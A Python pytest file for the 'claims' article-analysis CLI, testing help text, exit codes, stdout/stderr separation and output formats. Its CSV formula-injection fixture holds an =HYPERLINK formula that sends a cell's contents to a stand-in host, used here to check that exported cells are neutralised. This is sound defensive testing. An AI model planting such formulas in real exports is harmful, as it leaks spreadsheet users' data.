"""CLI manners: help everywhere, --version, usage errors, stdout for data only, output formats."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import typer
from cli_helpers import (
    BAD,
    assert_grounded,
    assert_one_line_error,
    isolate_env,
    needs_offline,
    run_main,
    run_subprocess,
)

import claims
from claims.cli import app
from claims.errors import EXIT_USAGE
from claims.render.summary import CSV_FIELDS, FORMATS
from claims.schemas import Analysis

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "belarus-nuclear-fr.txt"
NOTICE = "claims: using the built-in offline analyser"


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_env(monkeypatch, tmp_path)


def _commands() -> list[tuple[list[str], Any]]:
    """Every command and sub-command of the typer/click tree, with its path of names."""
    found: list[tuple[list[str], Any]] = []

    def walk(cmd: Any, path: list[str]) -> None:
        found.append((path, cmd))
        for name, sub in sorted(getattr(cmd, "commands", {}).items()):
            walk(sub, [*path, name])

    walk(typer.main.get_command(app), [])
    return found


def test_command_tree_is_complete() -> None:
    names = {" ".join(p) for p, _ in _commands()}
    for expected in ("summarize", "compare", "worksheet", "eval", "eval quotes", "eval hedges",
                     "eval checkworthy", "cache", "cache info", "cache clear"):
        assert expected in names


@pytest.mark.parametrize("path", [p for p, _ in _commands()], ids=lambda p: " ".join(p) or "claims")
def test_every_command_and_parameter_has_help(path: list[str]) -> None:
    cmd = dict((tuple(p), c) for p, c in _commands())[tuple(path)]
    assert (cmd.help or "").strip(), f"{path} has no help text"
    for param in cmd.params:
        if getattr(param, "hidden", False):
            continue
        assert (getattr(param, "help", None) or "").strip(), f"{path}: {param.name} has no help text"


@pytest.mark.parametrize("path", [p for p, _ in _commands()], ids=lambda p: " ".join(p) or "claims")
def test_help_goes_to_stdout_and_exits_0(path: list[str], capsys, monkeypatch) -> None:
    r = run_main([*path, "--help"], capsys, monkeypatch)
    assert r.code == 0
    assert r.err == ""
    assert "Usage:" in r.out and "--help" in r.out


def test_top_level_help_documents_exit_codes(capsys, monkeypatch) -> None:
    r = run_main(["--help"], capsys, monkeypatch)
    flat = " ".join(r.out.split())
    for code in ("0 ok", "1 error", "2 usage", "3 partial", "130 interrupted"):
        assert code in flat


def test_version(capsys, monkeypatch) -> None:
    r = run_main(["--version"], capsys, monkeypatch)
    assert (r.code, r.out.strip(), r.err) == (0, f"claims {claims.__version__}", "")


def test_version_through_a_real_process() -> None:
    r = run_subprocess(["--version"])
    assert r.code == 0 and r.out.strip() == f"claims {claims.__version__}" and r.err == ""


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["summarize", "--bogus", "x.txt"], "No such option: --bogus"),
        (["summarize", "--format", "xml", str(SEED)], "unknown format 'xml'"),
        (["summarize", "-f", "pdf", str(SEED)], "unknown format 'pdf'"),
        (["compare", "--format", "jsonl", str(SEED)], "unknown format 'jsonl'"),
        (["worksheet", "--format", "docx", str(SEED)], "unknown format 'docx'"),
        (["worksheet", "--min-score", "3", str(SEED)], "--min-score"),
        (["eval", "quotes", "--format", "xml", "gold.jsonl"], "unknown format 'xml'"),
        (["summarize"], "Missing argument"),
        (["summarize", "--chunk-chars", "many", str(SEED)], "--chunk-chars"),
        (["summarize", "--chunk-chars", "50", str(SEED)], "--chunk-chars must be at least 200"),
        (["summarize", "--mode", "xml", str(SEED)], "unknown mode"),
        (["summarize", "--lang", "français", str(SEED)], "is not a language code"),
        (["frobnicate"], "No such command"),
    ],
)
def test_usage_errors_exit_2_with_one_line(argv: list[str], needle: str, capsys, monkeypatch) -> None:
    r = run_main(argv, capsys, monkeypatch)
    assert_one_line_error(r, EXIT_USAGE, needle)


def test_usage_error_through_a_real_process() -> None:
    r = run_subprocess(["summarize", "--format", "xml", str(SEED)])
    assert_one_line_error(r, EXIT_USAGE, "unknown format")


def test_no_arguments_shows_help_and_exits_2(capsys, monkeypatch) -> None:
    r = run_main([], capsys, monkeypatch)
    assert r.code == EXIT_USAGE
    assert "Usage:" in r.out + r.err and "summarize" in r.out + r.err


def test_endpoint_without_model_is_one_line_exit_1(capsys, monkeypatch) -> None:
    r = run_main(["summarize", "--base-url", "http://127.0.0.1:9/v1", str(SEED)], capsys, monkeypatch)
    assert_one_line_error(r, 1, "no model given")


# --- output: data on stdout, everything else on stderr -------------------------------------------


@needs_offline
@pytest.mark.parametrize("fmt", FORMATS)
def test_data_only_on_stdout(fmt: str, capsys, monkeypatch) -> None:
    quiet = run_main(["summarize", "-q", "--format", fmt, str(SEED)], capsys, monkeypatch)
    assert quiet.code == 0 and quiet.out.strip() and quiet.err == ""
    loud = run_main(["summarize", "--format", fmt, str(SEED)], capsys, monkeypatch)
    assert loud.code == 0 and loud.out == quiet.out
    # stderr holds the one notice (and warnings, if any): no claim, quote or table row
    assert loud.err_lines and loud.err_lines[0].startswith(NOTICE)
    assert all(line.startswith((NOTICE, "Warning")) for line in loud.err_lines), loud.err


@needs_offline
def test_json_validates_as_analysis_and_is_grounded(capsys, monkeypatch) -> None:
    r = run_main(["summarize", "-q", "--format", "json", str(SEED)], capsys, monkeypatch)
    analysis = Analysis.model_validate_json(r.out)
    assert analysis.document.source == str(SEED) and analysis.document.language == "fr"
    assert analysis.engine.backend == "offline"
    assert analysis.speakers and analysis.quotes and analysis.claims
    assert_grounded(analysis, SEED.read_bytes())


@needs_offline
def test_json_for_several_inputs_is_an_array(tmp_path: Path, capsys, monkeypatch) -> None:
    other = tmp_path / "b.txt"
    shutil.copy(BAD / "cp1252-fr.txt", other)
    r = run_main(["summarize", "-q", "--format", "json", str(SEED), str(other)], capsys, monkeypatch)
    assert r.code == 0, r.err
    items = [Analysis.model_validate(x) for x in json.loads(r.out)]
    assert [a.document.source for a in items] == [str(SEED), str(other)]


@needs_offline
def test_jsonl_gives_one_line_per_input(tmp_path: Path, capsys, monkeypatch) -> None:
    files = []
    for name in ("latin1-fr.txt", "cp1252-fr.txt", "rtl-emoji.txt"):
        shutil.copy(BAD / name, tmp_path / name)
        files.append(str(tmp_path / name))
    r = run_main(["summarize", "-q", "--format", "jsonl", *files, str(SEED)], capsys, monkeypatch)
    assert r.code == 0, r.err
    lines = r.out.splitlines()
    assert len(lines) == 4
    analyses = [Analysis.model_validate_json(line) for line in lines]
    assert [a.document.source for a in analyses] == [*files, str(SEED)]


@needs_offline
def test_directory_input_expands_to_article_files(tmp_path: Path, capsys, monkeypatch) -> None:
    d = tmp_path / "articles"
    (d / "sub").mkdir(parents=True)
    shutil.copy(SEED, d / "a.txt")
    shutil.copy(BAD / "scripts-nav.html", d / "b.html")
    (d / "sub" / "c.md").write_text("# Titre\n\nLe ministre a déclaré que « tout ira bien ».\n", encoding="utf-8")
    (d / "notes.csv").write_text("a,b\n1,2\n", encoding="utf-8")  # not an article: skipped
    (d / "image.png").write_bytes((BAD / "image.png").read_bytes())  # skipped by suffix
    r = run_main(["summarize", "-q", "--format", "jsonl", str(d)], capsys, monkeypatch)
    assert r.code == 0, r.err
    sources = [json.loads(line)["document"]["source"] for line in r.out.splitlines()]
    assert sources == [str(d / "a.txt"), str(d / "b.html"), str(d / "sub" / "c.md")]


# --- CSV formula injection -----------------------------------------------------------------------

FORMULA_ARTICLE = """=HYPERLINK("http://example.invalid/?x="&A1;"Cliquez") est apparu mardi dans le tableur du ministère des Finances.

-20 % : c'est la baisse des ventes annoncée mardi par le ministre de l'Économie, Paul Martin.

Le ministre a déclaré que +5 % de hausse des salaires serait « raisonnable » cette année.

@SOMME(1;1) est la formule que Paul Martin a citée devant les députés, selon des témoins.
"""


@needs_offline
def test_csv_neutralises_formula_cells(tmp_path: Path, capsys, monkeypatch) -> None:
    # A file name starting with '@' also lands in a cell (the source column).
    monkeypatch.chdir(tmp_path)
    Path("@article.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
    as_json = run_main(["summarize", "-q", "--format", "json", "@article.txt"], capsys, monkeypatch)
    analysis = Analysis.model_validate_json(as_json.out)
    r = run_main(["summarize", "-q", "--format", "csv", "@article.txt"], capsys, monkeypatch)
    assert r.code == 0, r.err
    rows = list(csv.reader(io.StringIO(r.out)))
    assert tuple(rows[0]) == CSV_FIELDS
    body = rows[1:]
    assert len(body) == len(analysis.claims)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The raw values that would have been formulas are there, behind a leading apostrophe.
    risky = [c.statement for c in analysis.claims if c.statement.startswith(("=", "+", "-", "@"))]
    risky += [q.text for q in analysis.quotes if q.text.startswith(("=", "+", "-", "@"))]
    assert risky, "the article must yield at least one value that starts a formula"
    cells = {cell for row in body for cell in row}
    for value in risky:
        if any(value == c.statement for c in analysis.claims):
            assert "'" + value in cells
    assert all(row[0] == "'@article.txt" for row in body)
    col = CSV_FIELDS.index("statement")
    for row, claim in zip(body, analysis.claims, strict=True):
        expected = ("'" + claim.statement) if claim.statement.startswith(("=", "+", "-", "@")) else claim.statement
        assert row[col] == expected


def test_cache_commands_write_only_expected_streams(tmp_path: Path, capsys, monkeypatch) -> None:
    info = run_main(["cache", "info", "--cache-dir", str(tmp_path / "c")], capsys, monkeypatch)
    assert info.code == 0 and str(tmp_path / "c") in info.out and info.err == ""
    clear = run_main(["cache", "clear", "--cache-dir", str(tmp_path / "c")], capsys, monkeypatch)
    assert clear.code == 0 and clear.out == "" and "removed" in clear.err
